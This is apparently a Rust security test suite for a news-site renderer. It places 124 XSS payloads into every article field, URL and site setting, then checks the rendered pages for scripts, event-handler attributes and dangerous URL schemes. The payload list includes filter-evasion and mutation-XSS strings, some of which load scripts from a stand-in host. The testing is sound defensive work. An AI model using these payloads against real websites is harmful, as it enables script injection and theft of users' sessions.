//! XSS suite: 124 hostile strings, each placed into every field of an article (title,
//! lead, paragraph, heading, quote and its source, list item, caption, alt, author and
//! role, category, tags, related title) and, where the URL types admit them, into every
//! URL (figure src, related link, canonical URL). Each rendered article page, category
//! page and home page is parsed back with html5ever and must hold: no script element
//! but the two JSON-LD ones, which parse as JSON and carry the text intact; no `on*`
//! attribute; no `javascript:`/`data:`/`vbscript:` URL; no element outside the
//! theme's own vocabulary (no SVG/MathML, iframe, object, form, base, ...); the text
//! reads back as written. Feeds must carry no markup from the text. The search results
//! page gets each string as the query, the hit's fields and its marked passage, and
//! admits its own form and `<mark>` besides.

use crate::common;

use tintuc::model::{Article, Author, Block, Category, Figure, Link, Status, WebUrl};
use tintuc::render::{
    visible_text, ArticleView, CategoryView, HomeSection, Page, RelatedLink, Renderer, SearchHit,
    SearchView, Site, SnippetHtml,
};

const VECTORS: &[&str] = &[
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//xss.example/x.js></SCRIPT>",
    "<img src=x onerror=alert(1)>",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "\"><script>alert(1)</script>",
    "'><script>alert(1)</script>",
    "\" onmouseover=\"alert(1)",
    "' onfocus='alert(1)' autofocus='",
    "javascript:alert(1)",
    "JaVaScRiPt:alert(1)",
    "java\tscript:alert(1)",
    "java\nscript:alert(1)",
    "java&#x09;script:alert(1)",
    "&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)",
    "&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A;alert(1)",
    "jav&#x0A;ascript:alert(1)",
    "\u{1}javascript:alert(1)",
    " javascript:alert(1)",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    "DATA:text/html,<script>alert(1)</script>",
    "vbscript:msgbox(1)",
    "VBSCRIPT:Execute(\"x\")",
    "</script><script>alert(1)</script>",
    "</SCRIPT ><script>alert(1)</script>",
    "<!--<script>alert(1)//-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "</title><script>alert(1)</script>",
    "</style><script>alert(1)</script>",
    "</textarea><script>alert(1)</script>",
    "</noscript><script>alert(1)</script>",
    "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
    "<iframe src=\"javascript:alert(1)\"></iframe>",
    "<iframe srcdoc=\"<script>alert(1)</script>\">",
    "<object data=\"javascript:alert(1)\">",
    "<embed src=\"data:text/html,<script>alert(1)</script>\">",
    "<a href=\"javascript:alert(1)\">x</a>",
    "<a href=\" &#14;  javascript:alert(1)\">x</a>",
    "<form action=\"javascript:alert(1)\"><input type=submit>",
    "<button formaction=\"javascript:alert(1)\">x</button>",
    "<input onfocus=alert(1) autofocus>",
    "<details open ontoggle=alert(1)>",
    "<body onload=alert(1)>",
    "<video><source onerror=alert(1)>",
    "<audio src=x onerror=alert(1)>",
    "<marquee onstart=alert(1)>",
    "<div style=\"background:url(javascript:alert(1))\">",
    "<div style=\"width:expression(alert(1))\">",
    "<style>*{x:expression(alert(1))}</style>",
    "<link rel=stylesheet href=\"javascript:alert(1)\">",
    "<meta http-equiv=\"refresh\" content=\"0;url=javascript:alert(1)\">",
    "<base href=\"javascript:alert(1)//\">",
    "<svg><a xlink:href=\"javascript:alert(1)\"><text x=20 y=20>x</text></a></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<svg><set attributeName=href to=javascript:alert(1)>",
    "<math href=\"javascript:alert(1)\">x</math>",
    "<math><maction actiontype=\"statusline#\" xlink:href=\"javascript:alert(1)\">x</maction></math>",
    "<img src=\"x` `<script>alert(1)</script>\"` `>",
    "<img \"\"\"><script>alert(1)</script>\">",
    "<noscript><img src=x onerror=alert(1)></noscript>",
    "<svg></p><style><a id=\"</style><img src=1 onerror=alert(1)>\">",
    "<math><mi><table><mglyph><svg><mtext><textarea><path id=\"</textarea><img onerror=alert(1) src=1>\">",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "<xmp><p title=\"</xmp><img src=x onerror=alert(1)>\">",
    "<listing>&lt;img src=x onerror=alert(1)&gt;</listing>",
    "<template><script>alert(1)</script></template>",
    "<scr<script>ipt>alert(1)</script>",
    "<<script>alert(1)//<</script>",
    "<img src=x:alert(alt) onerror=eval(src) alt=0>",
    "\\\"-alert(1)-\\\"",
    "';alert(1)//",
    "\"};alert(1);{\"",
    "\u{2028}alert(1)\u{2029}",
    "{{constructor.constructor('alert(1)')()}}",
    "${alert(1)}",
    "<% alert(1) %>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&amp;lt;script&amp;gt;",
    "%3Cscript%3Ealert(1)%3C/script%3E",
    "\\x3cscript\\x3ealert(1)\\x3c/script\\x3e",
    "\\u003cscript\\u003ealert(1)\\u003c/script\\u003e",
    "＜script＞alert(1)＜/script＞",
    "<script\u{20}type=\"text/javascript\">alert(1)</script>",
    "<script/src=data:,alert(1)>",
    "<img/src/onerror=alert(1)>",
    "<svg/onload=alert(1)//",
    "<a href=\"&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112&#0000116&#0000058&#0000097&#0000108&#0000101&#0000114&#0000116&#0000040&#0000049&#0000041\">x</a>",
    "<a href=\"jav&#x09;ascript:alert(1)\">x</a>",
    "<a href=\"&Tab;javascript:alert(1)\">x</a>",
    "&NewLine;javascript:alert(1)",
    "&Tab;javascript:alert(1)",
    "javascript&colon;alert(1)",
    "<img src=\"javascript:alert(1)\">",
    "<img dynsrc=\"javascript:alert(1)\">",
    "<table background=\"javascript:alert(1)\">",
    "<isindex action=\"javascript:alert(1)\" type=image>",
    "<object type=\"text/x-scriptlet\" data=\"http://xss.example/x.html\">",
    "<x onclick=alert(1)>click",
    "<div onpointerover=\"alert(1)\">x</div>",
    "<a onmouseover=alert(1)>x",
    "\" autofocus onfocus=alert(1) x=\"",
    "' style='x:expression(alert(1))",
    "--></script><script>alert(1)</script><!--",
    "]]><script>alert(1)</script>",
    "<?xml version=\"1.0\"?><script>alert(1)</script>",
    "<!DOCTYPE html><script>alert(1)</script>",
    "\u{0}<script>alert(1)</script>",
    "<scr\u{0}ipt>alert(1)</script>",
    "<img src=x onerror=\u{b}alert(1)>",
    "Sơ kết <b>thi đua</b> & \"khen thưởng\" 'năm' 2018",
    "<img src=x onerror=\"&#97;lert(1)\">",
    "<a href=\"//xss.example/%0Ajavascript:alert(1)\">x</a>",
    "<svg><style>&lt;img src=x onerror=alert(1)&gt;</style></svg>",
    "<select><template><style></select><img src onerror=alert(1)>",
    "<frameset onload=alert(1)>",
    "<keygen autofocus onfocus=alert(1)>",
    "</script><!--<script>",
    "<!--</script><script>alert(1)//-->",
    "\r\n<script>alert(1)</script>",
    "javascript://%0Aalert(1)",
    "https://example.vn/\" onerror=\"alert(1)",
    "/tin/a.html?x=<script>alert(1)</script>",
    "//xss.example/x.js",
    "http://xss.example/a.jpg#\"><script>alert(1)</script>",
];

/// The only elements the default theme writes.
const ALLOWED: &[&str] = &[
    "html",
    "head",
    "meta",
    "title",
    "link",
    "script",
    "style",
    "body",
    "a",
    "header",
    "nav",
    "ul",
    "ol",
    "li",
    "noscript",
    "p",
    "main",
    "article",
    "h1",
    "h2",
    "h3",
    "h4",
    "h5",
    "h6",
    "time",
    "div",
    "figure",
    "img",
    "figcaption",
    "blockquote",
    "span",
    "section",
    "footer",
];

/// What the search results page writes besides [`ALLOWED`].
const ALLOWED_ON_SEARCH: &[&str] = &["form", "label", "input", "button", "ol", "mark"];

const URL_ATTRS: &[&str] = &[
    "href",
    "src",
    "action",
    "formaction",
    "poster",
    "data",
    "background",
    "cite",
    "longdesc",
    "usemap",
    "srcset",
    "xlink:href",
    "dynsrc",
    "lowsrc",
    "ping",
    "manifest",
    "codebase",
];

fn dangerous_url(v: &str) -> bool {
    // What a URL parser would see: leading C0/space trimmed, tabs and newlines removed.
    let cleaned: String = v
        .trim_start_matches(|c: char| c <= ' ')
        .chars()
        .filter(|c| !matches!(c, '\t' | '\n' | '\r'))
        .collect::<String>()
        .to_ascii_lowercase();
    ["javascript:", "data:", "vbscript:"]
        .iter()
        .any(|s| cleaned.starts_with(s))
}

fn hostile_article(v: &str, link: Option<&Link>) -> Article {
    let mut a = Article::new(
        "xss-1".parse().unwrap(),
        v.to_owned(),
        "xss-mot".parse().unwrap(),
    );
    a.lead = Some(v.to_owned());
    a.body = vec![
        Block::paragraph(v),
        Block::Heading {
            level: 2,
            text: v.to_owned(),
        },
        Block::Quote {
            text: v.to_owned(),
            cite: Some(v.to_owned()),
        },
        Block::List {
            ordered: false,
            items: vec![v.to_owned()],
        },
        Block::Figure(Figure {
            src: link
                .cloned()
                .unwrap_or_else(|| "/uploads/a.jpg".parse().unwrap()),
            alt: v.to_owned(),
            caption: Some(v.to_owned()),
            width: Some(800),
            height: Some(533),
        }),
    ];
    a.authors = vec![Author {
        name: v.to_owned(),
        role: Some(v.to_owned()),
    }];
    a.category = Some(Category {
        name: v.to_owned(),
        slug: "chuyen-muc".parse().unwrap(),
    });
    a.tags = vec![v.to_owned(), "thi đua".to_owned()];
    a.published = Some("2018-08-17T08:00:00+07:00".parse().unwrap());
    a.status = Status::Published;
    a.canonical_url = WebUrl::new(v).ok();
    a
}

struct Outcome {
    pages: usize,
    urls_admitted: usize,
}

fn check_html(html: &str, v: &str, what: &str) {
    let (root, errors) = common::parse(html);
    assert!(
        errors.is_empty(),
        "{what}: parse errors {errors:?} for {v:?}"
    );
    let mut scripts = 0;
    for el in root.all() {
        let allowed = ALLOWED.contains(&el.name.as_str())
            || (what == "search page" && ALLOWED_ON_SEARCH.contains(&el.name.as_str()));
        assert!(
            allowed && el.ns == "http://www.w3.org/1999/xhtml",
            "{what}: unexpected element <{}> ({}) for {v:?}",
            el.name,
            el.ns
        );
        for (name, value) in &el.attrs {
            assert!(
                !name.to_ascii_lowercase().starts_with("on"),
                "{what}: attribute {name} for {v:?}"
            );
            if URL_ATTRS.contains(&name.as_str())
                || (el.name == "meta"
                    && name == "content"
                    && el
                        .attr("property")
                        .is_some_and(|p| p.ends_with(":url") || p.ends_with(":image")))
                || (el.name == "meta"
                    && name == "content"
                    && el.attr("name") == Some("twitter:image"))
            {
                assert!(!dangerous_url(value), "{what}: {name}={value:?} for {v:?}");
            }
            assert!(
                !(el.name == "meta" && name == "http-equiv"),
                "{what}: http-equiv for {v:?}"
            );
        }
        if el.name == "script" {
            scripts += 1;
            assert_eq!(
                el.attr("type"),
                Some("application/ld+json"),
                "{what}: script for {v:?}"
            );
            let json: serde_json::Value = serde_json::from_str(&el.text())
                .unwrap_or_else(|e| panic!("{what}: JSON-LD does not parse ({e}) for {v:?}"));
            match json["@type"].as_str() {
                Some("NewsArticle") => {
                    assert_eq!(json["headline"], *v, "{what}: headline for {v:?}");
                    assert_eq!(json["author"][0]["name"], *v);
                    assert_eq!(json["articleSection"], *v);
                    assert_eq!(json["keywords"][0], *v);
                }
                Some("BreadcrumbList") => {
                    let items = json["itemListElement"].as_array().unwrap();
                    assert!(
                        what == "search page" || items.iter().any(|i| i["name"] == *v),
                        "{what}: breadcrumb for {v:?}"
                    );
                }
                other => panic!("{what}: unexpected JSON-LD type {other:?}"),
            }
        }
    }
    assert!(scripts <= 2, "{what}: {scripts} scripts");
}

fn run_vector(r: &Renderer, v: &str) -> Outcome {
    let link = Link::new(v).ok();
    let a = hostile_article(v, link.as_ref());
    let related_url = link
        .clone()
        .unwrap_or_else(|| "/tin/khac.html".parse().unwrap());
    let related = [RelatedLink {
        title: v.to_owned(),
        url: related_url,
        published: a.published,
    }];
    let more = [RelatedLink {
        title: v.to_owned(),
        url: "/tin/tin-cung-chuyen-muc.html".parse().unwrap(),
        published: a.published,
    }];
    let mut html = String::new();
    r.render(
        &Page::Article(&ArticleView::new(&a, &related).with_more(&more)),
        &mut html,
    );
    check_html(&html, v, "article page");
    // The text reads back as written (what a browser shows).
    let (root, _) = common::parse(&html);
    let shown = visible_text(v);
    assert_eq!(root.first(|e| e.name == "h1").text(), shown);
    assert_eq!(root.first(|e| e.has_class("lead")).text(), shown);
    assert_eq!(root.first(|e| e.name == "figcaption").text(), shown);
    assert_eq!(
        root.first(|e| e.name == "img").attr("alt"),
        Some(shown.as_str())
    );
    assert_eq!(root.first(|e| e.has_class("author")).text(), shown);
    let rel = root.find(|e| e.has_class("related"));
    assert_eq!(rel.len(), 2, "Tin liên quan and Các tin khác");
    for section in rel {
        assert_eq!(section.first(|e| e.name == "a").text(), shown);
    }
    assert_eq!(
        scripts(&root),
        2,
        "article page needs its two JSON-LD scripts"
    );

    let cat = a.category.clone().unwrap();
    let list = [&a];
    let mut page = String::new();
    r.render(
        &Page::Category(&CategoryView {
            category: &cat,
            articles: &list,
            page: 2,
            page_count: 3,
        }),
        &mut page,
    );
    check_html(&page, v, "category page");
    let mut home = String::new();
    r.render(
        &Page::Home(&[HomeSection {
            category: &cat,
            articles: &list,
        }]),
        &mut home,
    );
    check_html(&home, v, "home page");

    let hits = [SearchHit {
        article: &a,
        snippet: SnippetHtml::from_runs([(v, false), (v, true), (v, false)]),
    }];
    let mut search = String::new();
    r.render_search(&SearchView::new(v, &hits, 11, 2, 10), &mut search);
    check_html(&search, v, "search page");
    let (root, _) = common::parse(&search);
    let input = root.first(|e| e.attr("id") == Some("tu-khoa"));
    assert_eq!(input.attr("value"), Some(shown.as_str()), "search box");
    let hit = root.first(|e| e.has_class("search-results"));
    assert_eq!(hit.first(|e| e.name == "h2").text(), shown);
    assert_eq!(hit.first(|e| e.name == "mark").text(), shown);
    assert_eq!(
        hit.first(|e| e.has_class("snippet")).text(),
        shown.repeat(3)
    );

    for feed in [Page::Rss(&list), Page::Atom(&list)] {
        let mut xml = String::new();
        r.render(&feed, &mut xml);
        let lower = xml.to_ascii_lowercase();
        assert!(
            !lower.contains("<script") && !lower.contains("<img") && !lower.contains("<svg"),
            "feed markup for {v:?}"
        );
    }
    Outcome {
        pages: 4,
        urls_admitted: usize::from(link.is_some()),
    }
}

fn scripts(root: &common::El) -> usize {
    root.find(|e| e.name == "script").len()
}

#[test]
fn xss_vectors_in_every_field() {
    assert!(VECTORS.len() >= 100, "{} vectors", VECTORS.len());
    let mut site = Site::new(
        "Trang thông tin điện tử VKSND tỉnh Sóc Trăng",
        "https://vks.example.vn".parse().unwrap(),
    );
    site.sections = vec![Category {
        name: "Hoạt động ngành".into(),
        slug: "hoat-dong-nganh".parse().unwrap(),
    }];
    let r = Renderer::new(site);
    let mut pages = 0;
    let mut admitted = Vec::new();
    for v in VECTORS {
        let o = run_vector(&r, v);
        pages += o.pages;
        if o.urls_admitted > 0 {
            admitted.push(*v);
        }
    }
    println!(
        "{} vectors, {pages} HTML pages checked; URLs admitted by Link: {admitted:?}",
        VECTORS.len()
    );
    // Only harmless http(s)/relative references may pass the URL type.
    for v in &admitted {
        assert!(!dangerous_url(v), "{v:?} admitted as a link");
    }
}

#[test]
fn hostile_site_configuration_is_escaped_too() {
    for v in VECTORS.iter().take(40) {
        let mut site = Site::new(*v, "https://vks.example.vn".parse().unwrap());
        site.detail_heading = v.to_string();
        site.related_heading = v.to_string();
        site.home_label = v.to_string();
        site.noscript_notice = v.to_string();
        site.footer_lines = vec![v.to_string()];
        site.more_heading = v.to_string();
        site.tagline = Some(v.to_string());
        site.owner = Some(v.to_string());
        site.address = Some(v.to_string());
        site.contact = Some(v.to_string());
        site.licence = Some(v.to_string());
        let link = Link::new(*v).ok();
        site.emblem = link.clone();
        site.search_url = link.clone();
        let url = link.unwrap_or_else(|| "/x".parse().unwrap());
        site.noscript_help = vec![RelatedLink::new(*v, url.clone())];
        site.sidebar = vec![tintuc::render::SidebarBlock::new(
            *v,
            vec![RelatedLink::new(*v, url)],
        )];
        let r = Renderer::new(site);
        let a = hostile_article("Tin", None);
        let mut html = String::new();
        let related = [RelatedLink::new("x", "/tin/x.html".parse().unwrap())];
        r.render(&Page::Article(&ArticleView::new(&a, &related)), &mut html);
        let (root, errors) = common::parse(&html);
        assert!(errors.is_empty(), "{errors:?}");
        assert_eq!(scripts(&root), 2);
        assert!(root
            .all()
            .iter()
            .all(|e| e.attrs.iter().all(|(n, _)| !n.starts_with("on"))));
    }
}

/// With the `sanitize` feature, every vector as a CMS HTML body goes through the
/// sanitiser into the page and the same checks hold.
#[cfg(feature = "sanitize")]
#[test]
fn sanitised_cms_bodies() {
    let r = Renderer::new(Site::new("Cổng", "https://vks.example.vn".parse().unwrap()));
    let a = hostile_article("Tin", None);
    for v in VECTORS {
        let body = tintuc::render::sanitize(v);
        let view = ArticleView {
            body_html: Some(&body),
            ..ArticleView::new(&a, &[])
        };
        let mut html = String::new();
        r.render(&Page::Article(&view), &mut html);
        let (root, _) = common::parse(&html);
        // The sanitiser may emit elements the theme does not (tables, <b>), so check
        // the security properties only.
        for el in root.all() {
            assert_eq!(el.ns, "http://www.w3.org/1999/xhtml", "{v:?}");
            assert!(
                !["iframe", "object", "embed", "form", "base", "style"].contains(&el.name.as_str())
                    || (el.name == "style"
                        && el.attr("type").is_none()
                        && el.text().starts_with("*{")),
                "<{}> for {v:?}",
                el.name
            );
            for (name, value) in &el.attrs {
                assert!(!name.starts_with("on"), "{name} for {v:?}");
                if URL_ATTRS.contains(&name.as_str()) {
                    assert!(!dangerous_url(value), "{name}={value:?} for {v:?}");
                }
            }
        }
        assert_eq!(scripts(&root), 2, "{v:?}");
    }
}
